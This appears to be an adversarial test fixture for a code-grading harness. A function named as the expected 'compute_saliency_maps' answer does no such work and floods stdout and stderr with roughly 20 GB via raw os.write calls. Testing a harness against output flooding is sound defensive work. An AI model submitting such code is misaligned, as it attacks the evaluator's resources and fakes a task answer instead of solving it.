# Writes 20 GB to the descriptors of the process, past Python's streams.
# attacks: outputs
# %% answer="compute_saliency_maps"
def compute_saliency_maps(X, y, model):
    import os

    block = b"saliency " * 111_111
    for number in range(20_000):
        os.write(1 + number % 2, block)
